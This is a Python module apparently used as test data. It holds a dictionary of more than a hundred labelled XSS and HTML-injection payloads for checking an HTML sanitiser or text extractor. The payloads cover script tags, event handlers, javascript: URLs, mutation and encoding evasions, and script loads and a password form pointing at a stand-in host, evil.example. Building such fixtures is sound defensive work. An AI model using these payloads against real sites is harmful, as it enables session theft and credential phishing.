"""Hostile markup of our own writing, by what is hostile about it."""

from __future__ import annotations

# In each the letters a, b or both are what a reader would read.
HOSTILE = {
    "script": "a<script>alert(1)</script>b",
    "script in capitals": "a<SCRIPT>alert(1)</SCRIPT>b",
    "script, mixed case": "a<ScRiPt>alert(1)</sCrIpT >b",
    "script with address": 'a<script src="//evil.example/x.js"></script>b',
    "script, slash for space": "a<script/x src=//evil.example/x.js></script>b",
    "script, self-closed": "a<script/>alert(1)</script>b",
    "script without end": "a<script>alert(1)",
    "script, end without bracket": "a<script>alert(1)</script",
    "script in a script": "a<scr<script>ipt>alert(1)</scr</script>ipt>b",
    "script that holds its own tag": "a<script>document.write('<script>x</script>')</script>b",
    "script, string that ends it": "a<script>x='</script><img src=x onerror=alert(1)>'</script>b",
    "script, new line in the name": "a<script\n>alert(1)</script\n>b",
    "script, NUL in the name": "a<scr\x00ipt>alert(1)</scr\x00ipt>b",
    "script after a lone bracket": "a<<script>alert(1)//<</script>b",
    "script, four brackets": "a<<<<script>b",
    "script, commented start": "a<script><!-- alert(1) --></script>b",
    "script, escaped once": "a&lt;script&gt;alert(1)&lt;/script&gt;b",
    "script, escaped twice": "a&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;b",
    "script, escaped thrice": (
        "a&amp;amp;lt;script&amp;amp;gt;alert(1)&amp;amp;lt;/script&amp;amp;gt;b"
    ),
    "script, decimal": "a&#60;script&#62;alert(1)&#60;/script&#62;b",
    "script, decimal with zeros": "a&#0000060script&#0000062alert(1)&#0000060/script&#0000062b",
    "script, hexadecimal": "a&#x3C;script&#x3e;alert(1)&#X3c;/script&#x3E;b",
    "script, no semicolons": "a&ltscript&gtalert(1)&lt/script&gtb",
    "script, escaped ampersand as number": (
        "a&#38;lt;script&#38;gt;alert(1)&#38;lt;/script&#38;gt;b"
    ),
    "script, bracket alone escaped": "a&lt;script>alert(1)&lt;/script>b",
    "script in wide letters": "a＜script＞alert(1)＜/script＞b",
    "image": "a<img src=x onerror=alert(1)>b",
    "image, quoted": 'a<img src="x" onerror="alert(\'1\')">b',
    "image, bracket in a value": 'a<img alt="1 > 0 <b>" onerror=alert(1) src=x>b',
    "image, back quotes": "a<img src=`x` onerror=`alert(1)`>b",
    "image, slashes for spaces": "a<img/src='x'/onerror=alert(1)>b",
    "image, value torn by a quote": "a<img src='x\" onerror=alert(1)>b",
    "image, no end": "a<img src=x onerror=alert(1) ",
    "image, no end, new line": "a<img src=x\nonerror=alert(1)//",
    "image in an unfinished attribute": 'a<a href="<img src=x onerror=alert(1)>b',
    "image, quotes in a name": 'a<img """><script>alert(1)</script>">b',
    "image, entity in the address": "a<img src=\"jav&#x09;ascript:alert('1');\">b",
    "link with a script": 'a<a href="javascript:alert(1)">b</a>',
    "link with a script, encoded": 'a<a href="&#106;&#97;vascript:alert(1)">b</a>',
    "link with data": 'a<a href="data:text/html;base64,PHNjcmlwdD4=">b</a>',
    "link with a handler": "a<a onmouseover=alert(1) href=#>b</a>",
    "body with a handler": "<body onload=alert(1)>a",
    "frame": 'a<iframe src="javascript:alert(1)"></iframe>b',
    "frame with a document": 'a<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>b',
    "frame without end": "a<iframe src=//evil.example <",
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>a',
    "object": 'a<object data="//evil.example/x.swf"><param name=x>no</object>b',
    "embed": "a<embed src=//evil.example/x.swf>b",
    "applet": "a<applet code=x.class>b</applet>",
    "form": "a<form action=//evil.example><input name=password><button>Log in</button></form>b",
    "button with an action": "a<isindex type=image src=1 onerror=alert(1)>b",
    "style": "a<style>body{background:url(javascript:alert(1))}</style>b",
    "style attribute": 'a<p style="width:expression(alert(1))">b</p>',
    "style that hides a tag": 'a<style><img src="</style><img src=x onerror=alert(1)//">b',
    "link element": 'a<link rel=stylesheet href="javascript:alert(1)">b',
    "meta refresh": 'a<meta http-equiv=refresh content="0;url=javascript:alert(1)">b',
    "base": 'a<base href="javascript:alert(1);//">b',
    "title": "a<title><script>alert(1)</script></title>b",
    "noscript": 'a<noscript><p title="</noscript><img src=x onerror=alert(1)>">b',
    "template": "a<template><script>alert(1)</script></template>b",
    "noembed": 'a<noembed><img src="</noembed><img src=x onerror=alert(1)>">b',
    "plaintext": "a<plaintext><script>alert(1)</script>b",
    "textarea": "a<textarea></textarea><img src=x onerror=alert(1)></textarea>b",
    "xmp": "a<xmp><script>alert(1)</script></xmp>b",
    "listing": "a<listing>&lt;img src=x onerror=alert(1)&gt;</listing>b",
    "select": "a<select><option><script>alert(1)</script></select>b",
    "table": 'a<table background="javascript:alert(1)"><tr><td>b</table>',
    "marquee": "a<marquee onstart=alert(1)>b</marquee>",
    "details": "a<details open ontoggle=alert(1)>b</details>",
    "video": 'a<video><source onerror="alert(1)"></video>b',
    "svg with a handler": "a<svg onload=alert(1)>b",
    "svg with a script": "a<svg><script>alert&#40;1)</script></svg>b",
    "svg, slash for space": "a<svg/onload=alert(1)>b",
    "svg, foreign object": (
        "a<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>b"
    ),
    "svg that moves": (
        'a<svg><a><animate attributeName=href values="javascript:alert(1)"/>'
        "<text>x</text></a></svg>b"
    ),
    "svg, title that breaks out": (
        'a<svg><title><p><style><a id="</style><img src=x onerror=alert(1)>"></title></svg>b'
    ),
    "svg, section": "a<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>b",
    "math": 'a<math href="javascript:alert(1)"><mi>x</mi></math>b',
    "math, action": (
        'a<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x'
        "</maction></math>b"
    ),
    "math, mutation": (
        'a<math><mtext><table><mglyph><style><!--</style><img title="--'
        '&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>b'
    ),
    "math, annotation": (
        'a<math><annotation encoding="text/html"><script>alert(1)</script></annotation></math>b'
    ),
    "form mutation": (
        "a<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "comment": "a<!-- <script>alert(1)</script> -->b",
    "comment, short": "a<!--><img src=x onerror=alert(1)>-->b",
    "comment, bang": "a<!-- --!><img src=x onerror=alert(1)>-->b",
    "comment, nested": "a<!--<!-- --><script>alert(1)</script>-->b",
    "comment without end": "a<!-- <script>alert(1)</script> b",
    "comment for one browser": "a<!--[if gte IE 4]><script>alert(1)</script><![endif]-->b",
    "comment that is none": 'a<! foo="><script>alert(1)</script>">b',
    "processing instruction": 'a<?xml-stylesheet href="javascript:alert(1)"?>b',
    "instruction with a tag": 'a<? foo="><script>alert(1)</script>">b',
    "end tag that is none": 'a</ foo="><script>alert(1)</script>">b',
    "end tag with a handler": "a</p onclick=alert(1)>b",
    "declaration": '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>a &x; b',
    "section": "a<![CDATA[<script>alert(1)</script>]]>b",
    "section with words": "<![CDATA[Ferries <b>run</b> again]]>",
    "unknown element": "a<x onclick=alert(1)>b</x>",
    "element with a prefix": "a<svg:script xmlns:svg=x>alert(1)</svg:script>b",
    "custom element": "a<my-tag onfocus=alert(1) tabindex=1>b</my-tag>",
    "name in Turkish": "a<ſcript>alert(1)</ſcript>b",
    "Kelvin sign": "a<Kbd>b",
    "zero width space in a tag": "a<\u200bscript>alert(1)<\u200b/script>b",
    "zero width space in an entity": "a&l\u200bt;script&g\u200bt;b",
    "soft hyphen in a tag": "a<scr\xadipt>alert(1)</scr\xadipt>b",
    "Greek question mark": "a&lt;script&gt;b",
    "lone surrogate": "a<\ud800script>alert(1)</script>b",
    "UTF-7": "a+ADw-script+AD4-alert(1)+ADw-/script+AD4-b",
    "overlong form": "aÀ¼scriptÀ¾alert(1)b",
    "form feed in a tag": "a<img\x0csrc=x\x0conerror=alert(1)>b",
    "vertical tab in a tag": "a<img\x0bsrc=x onerror=alert(1)>b",
    "override of direction": "a\u202e<script>alert(1)</script>\u202cb",
    "tags that make a tag": "a<b<b>>c</b<b>>d",
    "tag made by a drop": "a<scr<b></b>ipt>alert(1)</script>b",
    "entity made by a drop": "a&l<b></b>t;script&g<b></b>t;b",
    "tag made by a comment": "a<scr<!-- -->ipt>alert(1)b",
    "deep": "<b>" * 500 + "a" + "</b>" * 500,
}
